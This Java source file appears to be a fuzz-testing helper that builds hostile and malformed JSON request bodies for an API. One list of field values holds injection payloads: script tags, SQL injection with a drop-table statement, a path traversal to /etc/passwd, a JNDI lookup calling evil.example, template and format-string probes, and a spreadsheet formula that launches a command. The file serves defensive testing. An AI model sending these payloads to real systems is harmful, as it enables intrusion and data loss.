package id.serambi.security;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;

import tools.jackson.databind.json.JsonMapper;

/**
 * Request bodies a hostile or broken client sends: text that is no JSON, JSON of the wrong shape, nesting deeper than
 * any parser should follow, and objects whose fields (the endpoint's own, from OpenAPI) hold wrong types, nulls, huge
 * strings and unicode tricks.
 */
final class HostileBodies {

    static final JsonMapper JSON = JsonMapper.builder().build();

    /** Values for one field; none is a valid value for a field of the API. */
    static final List<Object> VALUES = java.util.Arrays.asList(null, 0, -1, Long.MAX_VALUE, Long.MIN_VALUE, 1.5e300,
            -0.0, true, false, List.of(), Map.of(), List.of(Map.of("x", List.of())), "", " ", "\t\r\n",
            "x".repeat(200_000), "\u0000", "nul\u0000byte", "\u202Eevil", "zero\u200Bwidth", "e\u0301".repeat(2000),
            "\uFEFF", "😀".repeat(5000), "<script>alert(1)</script>", "' OR '1'='1' --", "'; drop table member; --",
            "../../etc/passwd", "${jndi:ldap://evil.example/x}", "{{7*7}}", "%s%n%x", "=cmd|' /C calc'!A0",
            "9".repeat(400));

    private HostileBodies() {
    }

    /** One of the values above, or random text of any code points (a third of the time). */
    static Object value(Random random) {
        if (random.nextInt(3) > 0) {
            return VALUES.get(random.nextInt(VALUES.size()));
        }
        StringBuilder text = new StringBuilder();
        for (int i = random.nextInt(40); i > 0; i--) {
            text.appendCodePoint(random.nextInt(0x110000));
        }
        return text.toString();
    }

    /** Text that is not a JSON document the endpoint could read, or JSON of the wrong shape. */
    static List<byte[]> malformed() {
        List<String> texts = new ArrayList<>(List.of("", "{", "}", "[", "nul", "{\"a\":}", "{'a':1}", "{\"a\":1}{",
                "{\"a\":1,}", "\u0000", "null", "[]", "123", "\"text\"", "true", "[{}]", "{\"a\":NaN}",
                "{\"a\":1e999999}", "{\"a\":\"\\uD800\"}", "{\"a\":\"\\u0000\"}"));
        texts.add("[".repeat(100_000) + "]".repeat(100_000));
        texts.add("{\"a\":".repeat(20_000) + "1" + "}".repeat(20_000));
        texts.add("{" + "\"k\":1,".repeat(100_000) + "\"k\":2}");
        List<byte[]> bodies = new ArrayList<>(texts.stream().map(t -> t.getBytes(StandardCharsets.UTF_8)).toList());
        bodies.add(new byte[] {(byte) 0xC3, (byte) 0x28, '{', '}'});
        bodies.add(new byte[] {'{', '"', 'a', '"', ':', '"', (byte) 0xFF, (byte) 0xFE, '"', '}'});
        return bodies;
    }

    /** Objects with the endpoint's fields (and a few it does not know) set to hostile values. */
    static List<byte[]> objects(List<String> fields, int count, long seed) {
        List<String> names = new ArrayList<>(fields);
        names.addAll(List.of("__proto__", "@class", "id"));
        Random random = new Random(seed);
        List<byte[]> bodies = new ArrayList<>();
        for (int i = 0; i < count; i++) {
            Map<String, Object> body = new LinkedHashMap<>();
            for (String name : names) {
                if (i == 0 || random.nextInt(4) > 0) {
                    body.put(name, i == 0 ? null : value(random));
                }
            }
            try {
                bodies.add(JSON.writeValueAsBytes(body));
            } catch (RuntimeException unwritable) {
                // a generated lone surrogate cannot be written as UTF-8; the malformed bodies cover that case
            }
        }
        return bodies;
    }
}
